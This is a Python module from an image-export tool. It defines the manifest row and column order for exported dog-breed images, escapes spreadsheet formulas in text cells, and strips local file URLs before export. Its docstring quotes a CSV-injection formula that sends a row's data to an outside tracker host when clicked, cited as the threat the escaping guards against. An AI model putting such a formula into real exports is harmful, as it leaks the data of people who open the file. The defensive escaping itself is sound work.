"""The manifest row: one exported image as the export and its datasheet both see it.

Its text cells come from search results and files, and the manifest is opened in spreadsheets,
which run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://tracker/?"&A1, "pug")`` sends the row away when clicked). Such a cell is
written with a leading ``'``, as OWASP recommends against CSV injection; numbers stay numbers.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from core.text import FORMULA_STARTS as FORMULA_STARTS  # what the manifest's cells guard against
from core.text import spreadsheet_safe, web_url
from db.image_dates import DATE_FIELDS, NO_DATES, ImageDates, iso_text
from db.provenance import PROVENANCE_FIELDS, Provenance

# The manifest's columns, in order: the file, then where it came from, then its record, then
# (added later, so at the end: readers of older manifests keep their columns) the exported
# file's own sha256 and the original's format, then the dates the source gave (ISO 8601, UTC;
# empty when unknown: ``db.image_dates``), which an import of the tree keeps. ``sha256``,
# ``width`` and ``height`` are the original's: a portable export may have written it as a PNG
# (``db.portable_images``).
MANIFEST_FIELDS: tuple[str, ...] = (
    "breed",
    "synset",
    "file",
    "sha256",
    "width",
    "height",
    *PROVENANCE_FIELDS,
    "image_id",
    "status",
    "file_sha256",
    "original_format",
    *DATE_FIELDS,
)


@dataclass(frozen=True, slots=True)
class ManifestRow:
    """One exported image; ``record()`` gives its flat manifest columns."""

    breed: str
    synset: str | None
    file: str  # relative to the export root, with "/" separators
    sha256: str
    width: int
    height: int
    provenance: Provenance
    image_id: int
    status: str
    file_sha256: str | None = None  # of the file written; None when no image file was written
    original_format: str | None = None  # the stored original's (JPEG, PNG, WEBP, TIFF, ...)
    dates: ImageDates = NO_DATES  # uploaded / taken / indexed, as the source gave them

    def record(self) -> dict[str, str | int | None]:
        """The row as written to the manifest: one value per column, in ``MANIFEST_FIELDS``
        order (the provenance's fields flattened between the file's and the record's), every text
        cell made ``spreadsheet_safe``."""
        return {name: spreadsheet_safe(value) for name, value in self._values().items()}

    def _values(self) -> dict[str, str | int | None]:
        return {
            "breed": self.breed,
            "synset": self.synset,
            "file": self.file,
            "sha256": self.sha256,
            "width": self.width,
            "height": self.height,
            **self.provenance.columns(),
            "image_id": self.image_id,
            "status": self.status,
            "file_sha256": self.file_sha256,
            "original_format": self.original_format,
            **{name: iso_text(value) for name, value in self.dates.columns().items()},
        }


def portable(provenance: Provenance) -> Provenance:
    """The record as it may leave this machine: an image ``url`` that is not an http(s) URL
    (``core.text.web_url``) is dropped.

    Imports made before they stopped recording one stored the file's ``file://`` URL; such a
    URL, or a bare local path, names a folder on the exporting machine (often with the user's
    name in it) and is of no use to anyone who receives the set. The page URLs pass the same
    check whenever a record is built (``Provenance``), so only ``url`` is left to check here.
    """
    return replace(provenance, url=web_url(provenance.url))
